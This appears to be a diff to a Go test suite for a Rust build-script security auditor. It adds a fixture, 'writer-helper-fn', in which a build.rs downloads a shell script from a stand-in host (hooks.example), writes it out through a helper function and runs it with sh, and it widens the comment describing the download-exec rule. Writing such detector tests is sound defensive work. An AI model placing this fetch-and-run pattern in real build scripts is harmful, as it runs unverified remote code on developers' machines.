@@ -15,7 +15,8 @@ var rustPin = strings.Repeat("3f", 32)
 // arms, closures, a helper function returning the body, a buffer filled
 // by read_to_end or read_to_string, a std::net TcpStream, a curl process
 // whose output is kept) to the path it is written to (fs::write, io::copy
-// or write_all into File::create), and a later run of
+// or write_all into File::create, a function of the file writing its
+// parameter to the path another parameter names), and a later run of
 // that path (sh, bash, Command::new(path)) is download-exec, high. A
 // digest check of the download against a pinned digest that stops the
 // build on a mismatch makes it medium (a pinned release); a check that
@@ -120,6 +121,17 @@ async fn stage() -> Result<(), Box<dyn std::error::Error>> {
     Ok(())
 }
 `, 7, audit.High},
+		{"writer-helper-fn", `use std::{env, fs, path::Path, process::Command};
+fn save<P: AsRef<Path>>(dest: P, contents: &str) {
+    fs::write(dest, contents).expect("write");
+}
+fn main() {
+    let script = Path::new(&env::var("OUT_DIR").unwrap()).join("post.sh");
+    let body = ureq::get("https://hooks.example/post.sh").call().unwrap().into_string().unwrap();
+    save(&script, &body);
+    Command::new("sh").arg(&script).status().unwrap();
+}
+`, 9, audit.High},
 		{"digest-check-warns-only", `use sha2::{Digest, Sha256};
 use std::process::Command;
 const PIN: &str = "` + rustPin + `";
